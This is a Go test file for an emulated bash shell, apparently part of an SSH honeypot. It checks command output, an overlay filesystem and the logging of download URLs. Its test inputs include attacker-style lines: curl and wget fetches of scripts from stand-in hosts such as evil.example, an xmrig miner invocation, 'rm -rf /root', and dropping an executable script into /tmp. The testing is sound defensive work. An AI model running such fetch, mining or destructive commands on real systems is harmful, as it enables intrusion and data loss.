package shell

import (
	"bytes"
	"context"
	"io/fs"
	"strings"
	"testing"
	"testing/fstest"
	"time"

	"github.com/google/go-cmp/cmp"
)

var testNow = time.Date(2024, 5, 14, 9, 30, 0, 0, time.UTC)

func testBase() fstest.MapFS {
	mtime := testNow.Add(-48 * time.Hour)
	return fstest.MapFS{
		"etc/passwd":      {Data: []byte("root:x:0:0:root:/root:/bin/bash\nadmin:x:1000:1000::/home/admin:/bin/bash\n"), Mode: 0o644, ModTime: mtime},
		"etc/hostname":    {Data: []byte("srv-alpha-12\n"), Mode: 0o644, ModTime: mtime},
		"root/.bashrc":    {Data: []byte("# ~/.bashrc\n"), Mode: 0o644, ModTime: mtime},
		"root/notes.txt":  {Data: []byte("db password: hunter2\n"), Mode: 0o600, ModTime: mtime},
		"tmp":             {Mode: fs.ModeDir | 0o1777, ModTime: mtime},
		"home/admin":      {Mode: fs.ModeDir | 0o755, ModTime: mtime},
		"usr/bin/python3": {Data: []byte("\x7fELF"), Mode: 0o755, ModTime: mtime},
	}
}

// limitedBuffer keeps at most 1 MiB of output.
type limitedBuffer struct{ bytes.Buffer }

func (b *limitedBuffer) Write(p []byte) (int, error) {
	if b.Len() < 1<<20 {
		b.Buffer.Write(p)
	}
	return len(p), nil
}

func newTestShell() *Shell {
	return New(Env{
		Hostname: "srv-alpha-12",
		IP:       "10.20.0.7",
		RemoteIP: "203.0.113.9",
		Now:      func() time.Time { return testNow },
		Boot:     testNow.Add(-3*24*time.Hour - 2*time.Hour - 5*time.Minute),
	}, NewFS(testBase(), 0, 0, func() time.Time { return testNow }))
}

// run runs lines in order in one shell and returns the last line's output.
func run(t *testing.T, sh *Shell, lines ...string) (string, int) {
	t.Helper()
	var out bytes.Buffer
	status := 0
	for _, l := range lines {
		out.Reset()
		status, _ = sh.Run(context.Background(), l, &out, &out)
	}
	return out.String(), status
}

func TestCommands(t *testing.T) {
	tests := []struct {
		name       string
		setup      []string
		line       string
		want       string
		wantStatus int
	}{
		{"pwd starts at home", nil, "pwd", "/root\n", 0},
		{"cd and pwd", nil, "cd /etc; pwd", "/etc\n", 0},
		{"cd dash", []string{"cd /tmp", "cd /etc"}, "cd -", "/tmp\n", 0},
		{"cd home", []string{"cd /etc"}, "cd; pwd", "/root\n", 0},
		{"cd tilde", nil, "cd ~/; pwd", "/root\n", 0},
		{"cd missing", nil, "cd /nope", "-bash: cd: /nope: No such file or directory\n", 1},
		{"cd file", nil, "cd /etc/passwd", "-bash: cd: /etc/passwd: Not a directory\n", 1},
		{"cd dotdot stops at root", nil, "cd ../../../..; pwd", "/\n", 0},
		{"ls", nil, "ls /etc", "hostname\npasswd\n", 0},
		{"ls hidden", nil, "ls -A", ".bashrc\nnotes.txt\n", 0},
		{"ls long", nil, "ls -l /root", "total 4\n-rw------- 1 root root    21 May 12 09:30 notes.txt\n", 0},
		{"ls missing", nil, "ls /nope", "ls: cannot access '/nope': No such file or directory\n", 2},
		{"cat", nil, "cat /etc/hostname", "srv-alpha-12\n", 0},
		{"cat relative", []string{"cd /etc"}, "cat hostname ../etc/hostname", "srv-alpha-12\nsrv-alpha-12\n", 0},
		{"cat missing", nil, "cat nope", "cat: nope: No such file or directory\n", 1},
		{"cat dir", nil, "cat /etc", "cat: /etc: Is a directory\n", 1},
		{"echo", nil, `echo "a  b" c`, "a  b c\n", 0},
		{"echo -n", nil, "echo -n x", "x", 0},
		{"echo -e", nil, `echo -e 'a\tb\x41'`, "a\tbA\n", 0},
		{"variables", nil, "X=5; echo $X ${X}y \"$X\" '$X'", "5 5y 5 $X\n", 0},
		{"export", nil, "export FOO=bar; echo $FOO", "bar\n", 0},
		{"unset", []string{"export A=1"}, "unset A; echo \"[$A]\"", "[]\n", 0},
		{"status", nil, "false; echo $?", "1\n", 0},
		{"and", nil, "true && echo yes", "yes\n", 0},
		{"or", nil, "false || echo no", "no\n", 0},
		{"and short circuit", nil, "false && echo yes", "", 1},
		{"pipe", nil, "cat /etc/passwd | grep admin | wc -l", "1\n", 0},
		{"grep", nil, "grep -i ROOT /etc/passwd", "root:x:0:0:root:/root:/bin/bash\n", 0},
		{"grep miss", nil, "grep zzz /etc/passwd", "", 1},
		{"head", nil, "head -n 1 /etc/passwd", "root:x:0:0:root:/root:/bin/bash\n", 0},
		{"tail", nil, "tail -1 /etc/passwd", "admin:x:1000:1000::/home/admin:/bin/bash\n", 0},
		{"substitution", nil, "echo \"I am $(whoami) on `hostname`\"", "I am root on srv-alpha-12\n", 0},
		{"glob", nil, "echo /etc/*", "/etc/hostname /etc/passwd\n", 0},
		{"glob no match", nil, "echo /etc/*.conf", "/etc/*.conf\n", 0},
		{"quoted glob", nil, "echo '/etc/*'", "/etc/*\n", 0},
		{"uname", nil, "uname", "Linux\n", 0},
		{"uname -a", nil, "uname -a", "Linux srv-alpha-12 6.1.0-18-amd64 #1 SMP PREEMPT_DYNAMIC Debian 6.1.76-1 (2024-02-01) x86_64 GNU/Linux\n", 0},
		{"uname -rm", nil, "uname -r -m", "6.1.0-18-amd64 x86_64\n", 0},
		{"id", nil, "id", "uid=0(root) gid=0(root) groups=0(root)\n", 0},
		{"id -u", nil, "id -u", "0\n", 0},
		{"whoami", nil, "whoami", "root\n", 0},
		{"hostname", nil, "hostname", "srv-alpha-12\n", 0},
		{"uptime", nil, "uptime", " 09:30:00 up 3 days,  2:05,  1 user,  load average: 0.08, 0.03, 0.01\n", 0},
		{"nproc", nil, "nproc", "2\n", 0},
		{"unknown", nil, "xmrig --donate 0", "-bash: xmrig: command not found\n", 127},
		{"path not executable", nil, "./run.sh", "-bash: ./run.sh: No such file or directory\n", 127},
		{"path to binary", nil, "/usr/bin/python3", "-bash: /usr/bin/python3: Permission denied\n", 126},
		{"path to builtin", nil, "/bin/echo hi", "hi\n", 0},
		{"syntax error", nil, "ls |", "-bash: syntax error near unexpected token `newline'\n", 2},
		{"sudo", nil, "sudo -n id -un", "root\n", 0},
		{"sh -c", nil, "sh -c 'echo in; echo $0'", "in\n-bash\n", 0},
		{"sh stdin", nil, "echo 'echo piped' | sh", "piped\n", 0},
		{"which", nil, "which wget nosuch", "/usr/bin/wget\n", 1},
		{"history", []string{"ls", "id"}, "history", "    1  ls\n    2  id\n    3  history\n", 0},
		{"exit status", nil, "exit 3", "", 3},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			sh := newTestShell()
			got, status := run(t, sh, append(tc.setup, tc.line)...)
			if got != tc.want {
				t.Errorf("Run(%q) output:\n%q\nwant:\n%q", tc.line, got, tc.want)
			}
			if status != tc.wantStatus {
				t.Errorf("Run(%q) status = %d, want %d", tc.line, status, tc.wantStatus)
			}
		})
	}
}

func TestPersonaCommands(t *testing.T) {
	tests := []struct {
		line      string
		wantParts []string
	}{
		{"w", []string{"USER     TTY      FROM", "root     pts/0    203.0.113.9", " up 3 days,  2:05"}},
		{"ps", []string{"PID TTY", "bash", "ps"}},
		{"ps aux", []string{"USER         PID %CPU", "/sbin/init", "sshd: root@pts/0", "-bash"}},
		{"ps -ef", []string{"UID          PID    PPID", "/usr/sbin/cron -f"}},
		{"free -m", []string{"Mem:", "3934", "Swap:"}},
		{"free", []string{"4028520"}},
		{"df -h", []string{"Filesystem      Size  Used Avail Use% Mounted on", "/dev/sda1"}},
		{"ifconfig", []string{"inet 10.20.0.7  netmask 255.255.255.0  broadcast 10.20.0.255", "ether 52:54:00:12:34:56"}},
		{"ip a", []string{"inet 10.20.0.7/24 brd 10.20.0.255 scope global eth0"}},
		{"ip route", []string{"default via 10.20.0.1 dev eth0", "10.20.0.0/24 dev eth0"}},
		{"ip link", []string{"link/ether 52:54:00:12:34:56"}},
		{"env", []string{"HOME=/root", "PWD=/root", "USER=root"}},
		{"export", []string{`declare -x HOME="/root"`}},
	}
	for _, tc := range tests {
		got, status := run(t, newTestShell(), tc.line)
		if status != 0 {
			t.Errorf("Run(%q) status = %d, want 0", tc.line, status)
		}
		for _, part := range tc.wantParts {
			if !strings.Contains(got, part) {
				t.Errorf("Run(%q) output lacks %q:\n%s", tc.line, part, got)
			}
		}
	}
}

func TestFetchCommandsRecordURLs(t *testing.T) {
	tests := []struct {
		line       string
		wantURLs   []string
		wantStatus int
		wantOut    string
	}{
		{"wget http://192.0.2.7/x.sh", []string{"http://192.0.2.7/x.sh"}, 4, "Connecting to 192.0.2.7:80... failed"},
		{"wget -q -O /tmp/x http://evil.example/a b.example/c", []string{"http://evil.example/a", "b.example/c"}, 4, ""},
		{"wget -qO- https://192.0.2.9:8443/p", []string{"https://192.0.2.9:8443/p"}, 4, ""},
		{"wget --user-agent=x --header 'A: b' ftp://192.0.2.1/f", []string{"ftp://192.0.2.1/f"}, 4, "192.0.2.1:21"},
		{"curl -fsSL http://evil.example/i.sh", []string{"http://evil.example/i.sh"}, 6, "curl: (6) Could not resolve host: evil.example"},
		{"curl -s -o /tmp/k -H 'X: y' http://192.0.2.3/k", []string{"http://192.0.2.3/k"}, 28, ""},
		{"curl --url http://192.0.2.4/u -X POST -d a=b", []string{"http://192.0.2.4/u"}, 28, "Failed to connect to 192.0.2.4 port 80"},
		{"wget", nil, 1, "wget: missing URL"},
	}
	for _, tc := range tests {
		sh := newTestShell()
		var out bytes.Buffer
		status, cmds := sh.Run(context.Background(), tc.line, &out, &out)
		if status != tc.wantStatus {
			t.Errorf("Run(%q) status = %d, want %d (output %q)", tc.line, status, tc.wantStatus, out.String())
		}
		if len(cmds) != 1 {
			t.Fatalf("Run(%q) returned %d commands, want 1", tc.line, len(cmds))
		}
		if diff := cmp.Diff(tc.wantURLs, cmds[0].URLs); diff != "" {
			t.Errorf("Run(%q) URLs (-want +got):\n%s", tc.line, diff)
		}
		if !strings.Contains(out.String(), tc.wantOut) {
			t.Errorf("Run(%q) output %q lacks %q", tc.line, out.String(), tc.wantOut)
		}
	}
}

func TestCommandRecords(t *testing.T) {
	sh := newTestShell()
	var out bytes.Buffer
	_, cmds := sh.Run(context.Background(), "cd /tmp && wget http://192.0.2.1/a ; nope | cat", &out, &out)
	type rec struct {
		Text string
		Cwd  string
		Exit int
	}
	var got []rec
	for _, c := range cmds {
		got = append(got, rec{c.Text, c.Cwd, c.Exit})
	}
	want := []rec{
		{"cd /tmp", "/root", 0},
		{"wget http://192.0.2.1/a", "/tmp", 4},
		{"nope", "/tmp", 127},
		{"cat", "/tmp", 0},
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("command records (-want +got):\n%s", diff)
	}
}

func TestWritesStayInOverlay(t *testing.T) {
	base := testBase()
	clock := func() time.Time { return testNow }
	sh := New(Env{Now: clock}, NewFS(base, 0, 0, clock))
	lines := []string{
		"echo evil > /tmp/x.sh", "echo more >> /tmp/x.sh", "chmod +x /tmp/x.sh",
		"mkdir -p /tmp/a/b/c", "rm /etc/passwd", "rm -rf /root", "touch /etc/new",
	}
	for _, l := range lines {
		if _, status := run(t, sh, l); status != 0 {
			t.Errorf("Run(%q) status %d, want 0", l, status)
		}
	}
	checks := []struct {
		line string
		want string
	}{
		{"cat /tmp/x.sh", "evil\nmore\n"},
		{"ls -l /tmp/x.sh", "-rwxr-xr-x 1 root root    10 May 14 09:30 /tmp/x.sh\n"},
		{"ls /tmp/a/b", "c\n"},
		{"ls /etc", "hostname\nnew\n"},
		{"ls /root", "ls: cannot access '/root': No such file or directory\n"},
		{"mkdir /root; ls -A /root", ""},
	}
	for _, c := range checks {
		if got, _ := run(t, sh, c.line); got != c.want {
			t.Errorf("Run(%q) = %q, want %q", c.line, got, c.want)
		}
	}
	if _, ok := base["tmp/x.sh"]; ok {
		t.Error("write reached the base filesystem")
	}
	if _, ok := base["etc/passwd"]; !ok {
		t.Error("rm removed the base file")
	}
}

func TestLimits(t *testing.T) {
	fsys := NewFS(testBase(), 1024, 8, nil)
	sh := New(Env{MaxOutputBytes: 100}, fsys)

	got, _ := run(t, sh, "echo "+strings.Repeat("x", 500))
	if len(got) != 100 {
		t.Errorf("output of 501 bytes kept %d bytes, want the 100-byte cap", len(got))
	}
	got, status := run(t, sh, "echo "+strings.Repeat("y", 2000)+" > /tmp/big")
	if status == 0 || !strings.Contains(got, "No space left on device") {
		t.Errorf("2 KB write into a 1 KB overlay: status %d, output %q; want No space left on device", status, got)
	}
	for i := 0; i < 20; i++ {
		run(t, sh, "mkdir /tmp/d"+strings.Repeat("i", i+1))
	}
	if len(fsys.over) > 8 {
		t.Errorf("overlay holds %d nodes, cap 8", len(fsys.over))
	}

	deep := "echo $(echo $(echo $(echo $(echo $(echo deep)))))"
	if got, _ := run(t, newTestShell(), deep); got != "\n" {
		t.Errorf("Run(%q) = %q, want substitutions past depth %d to expand empty", deep, got, maxSubstDepth)
	}
}

func TestExitStopsLine(t *testing.T) {
	sh := newTestShell()
	got, status := run(t, sh, "echo a; exit 4; echo b")
	if got != "a\n" || status != 4 || !sh.Exited() {
		t.Errorf("exit mid-line: output %q, status %d, exited %v; want \"a\\n\", 4, true", got, status, sh.Exited())
	}
}

func TestPrompt(t *testing.T) {
	tests := []struct {
		env  Env
		cd   string
		want string
	}{
		{Env{Hostname: "h"}, "", "root@h:~# "},
		{Env{Hostname: "h"}, "cd /etc", "root@h:/etc# "},
		{Env{Hostname: "h", User: "admin"}, "", "admin@h:~$ "},
	}
	for _, tc := range tests {
		sh := New(tc.env, NewFS(testBase(), 0, 0, nil))
		if tc.cd != "" {
			run(t, sh, tc.cd)
		}
		if got := sh.Prompt(); got != tc.want {
			t.Errorf("Prompt() = %q, want %q", got, tc.want)
		}
	}
}
